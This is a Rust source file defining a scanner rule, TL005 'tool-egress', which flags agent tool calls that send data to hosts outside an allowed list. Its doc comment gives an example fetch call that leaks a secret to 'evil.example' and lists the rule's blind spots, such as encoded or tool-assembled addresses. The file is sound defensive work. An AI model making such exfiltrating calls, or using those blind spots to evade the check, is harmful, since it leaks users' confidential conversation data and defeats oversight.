//! # What it finds
//! An address in the arguments of a tool that `tool.egress` names, which leads to no host of `tool.hosts`: URLs,
//! hosts, IP addresses, e-mail addresses.
//!
//! # Why it matters
//! A tool that fetches or sends is a way out for everything in the conversation.
//!
//! # Example
//! `fetch {"url": "https://evil.example/?q=THE-SECRET"}`.
//!
//! # Limits and sources
//! Addresses are read as browsers read them: user information, backslashes, numbers as hosts. A bare host is one when
//! it is all of a string, or a path follows. Addresses that are encoded, or that the tool puts together, are not
//! seen. Hosts on the list can be ways out too.

use crate::rule::{Family, Matcher, Rule};

/// See the [module](self).
pub const RULE: Rule = Rule {
    id: "TL005",
    name: "tool-egress",
    family: Family::Tool,
    category: "tool.egress",
    tags: &["owasp:LLM02", "owasp-agentic:ASI02", "atlas:AML.T0086"],
    matcher: Matcher::Contract,
};
